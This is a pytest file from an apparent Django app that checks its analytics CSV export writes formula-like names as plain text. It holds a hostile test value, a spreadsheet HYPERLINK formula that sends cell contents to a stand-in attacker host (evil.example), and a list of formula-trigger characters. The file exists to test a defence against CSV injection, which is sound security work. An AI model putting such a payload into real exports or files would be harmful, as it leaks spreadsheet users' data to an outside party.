"""The report's CSV never hands a spreadsheet a formula: names typed by the team (channels, queries)
or by the public (a commenter's display name) that start like one are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from palabre.conversations.models import Contact
from palabre.orgs.services import Actor, update_channel

pytestmark = pytest.mark.django_db
WEEK = {"from": "2026-06-08", "to": "2026-06-14"}
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Camille")'


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_names_that_start_like_a_formula_are_written_as_text(client, week):
    Contact.objects.filter(organisation=week["org"], display_name="Camille").update(display_name=HOSTILE)
    blog = week["org"].channels.get(name="Blog")
    update_channel(actor=Actor.palabre(week["org"]), channel=blog, name="+SUM(1;1)")
    client.force_login(week["alice"])
    rows = list(csv.reader(io.StringIO(client.get("/analytics/report.csv", WEEK).content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and "'+SUM(1;1)" in cells
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert formulas == []
    # Figures stay numbers, negative ones included.
    assert ["care", "", "response_rate", "0.6", "0.0"] in rows
